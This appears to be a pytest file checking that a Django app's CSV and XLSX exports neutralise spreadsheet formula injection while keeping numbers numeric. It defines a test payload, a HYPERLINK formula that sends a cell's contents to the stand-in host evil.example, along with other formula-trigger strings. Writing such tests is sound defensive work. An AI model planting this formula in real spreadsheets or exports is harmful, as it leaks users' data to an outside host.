"""Exports are formula-safe: a text a spreadsheet would run goes out as text, numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from pli.exports import Column, Table, as_csv, as_xlsx, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


def table(rows, sources=()):
    return Table(
        key="t",
        title="Titre",
        columns=[Column("name", "Nom"), Column("count", "Nombre", "int"), Column("share", "Part", "share")],
        rows=rows,
        sources=list(sources),
    )


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_a_text_that_looks_like_a_formula_goes_out_as_text(text):
    assert safe_cell(text) == "'" + text
    response = as_csv(table([{"name": text, "count": 1, "share": 0.5}], sources=[text]))
    rows = csv_rows(response)
    assert rows[1][0] == "'" + text and rows[-1][0] == "'" + text
    cells = xlsx_cells(as_xlsx(table([{"name": text, "count": 1, "share": 0.5}], sources=[text])))
    name = cells[2][0]
    assert (name.data_type, name.quotePrefix) == ("s", True), "a string, never a formula"
    assert name.value.replace("\n", "\r") == text.replace("\n", "\r")  # (XML reads \r back as \n)
    assert not any(cell.data_type == "f" for row in cells for cell in row)


def test_numbers_stay_numbers():
    rows = [
        {"name": "Namur", "count": -3, "share": -0.25},
        {"name": "Andenne", "count": 1500, "share": Decimal("0.1")},
        {"name": "Ciney", "count": 7, "share": None},
    ]
    lines = csv_rows(as_csv(table(rows)))
    assert lines[1] == ["Namur", "-3", "-25"] and lines[2] == ["Andenne", "1500", "10"]
    cells = xlsx_cells(as_xlsx(table(rows)))
    assert [(c.value, c.data_type) for c in cells[2][1:]] == [(-3, "n"), (-0.25, "n")]
    assert cells[3][1].data_type == "n"


def test_ordinary_text_and_dates_are_untouched():
    assert safe_cell("Namur") == "Namur" and safe_cell("") == "" and safe_cell(None) is None
    assert safe_cell(date(2026, 1, 1)) == date(2026, 1, 1) and safe_cell(-1) == -1
    cells = xlsx_cells(as_xlsx(table([{"name": "Rochefort – Han", "count": 1, "share": 0}])))
    assert (cells[2][0].value, cells[2][0].quotePrefix) == ("Rochefort – Han", False)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_network_list_exports_an_organisation_named_like_a_formula_as_text(client_as, coordinator, fmt):
    from network.models import Organisation
    from territory.models import Territory
    from vocabulary.models import OrganisationType

    commune, _ = Territory.objects.get_or_create(
        nis_code="92094", defaults={"level": "commune", "name_fr": "Namur"}
    )
    Organisation.objects.create(
        name=ATTACK, sector="associative", type=OrganisationType.objects.first(), commune=commune
    )
    response = client_as(coordinator).get("/reseau/organisations/", {"format": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        assert any(row and row[0] == "'" + ATTACK for row in csv_rows(response))
    else:
        cells = [cell for row in xlsx_cells(response) for cell in row]
        assert any(c.value == ATTACK and c.data_type == "s" for c in cells)
        assert not any(c.data_type == "f" for c in cells)


def test_the_territory_exports_carry_imported_text_safely(statistics, client, tmp_path):
    from territory.imports.tidy import import_indicators

    path = tmp_path / "=evil.csv"
    path.write_text(
        f"territory;year;indicator;breakdown;value;unit;source\n93022;2009;reception_places;{ATTACK};-1;%;@Fedasil\n"
    )
    import_indicators(path)
    url = "/territoire/93022/export/indicateurs."
    text = client.get(url + "csv").content.decode("utf-8-sig")
    assert "'" + ATTACK in text.replace('""', '"') and ";'@Fedasil" in text
    cells = [c for row in xlsx_cells(client.get(url + "xlsx")) for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == -1 and c.data_type == "n" for c in cells), "the negative figure stays a number"
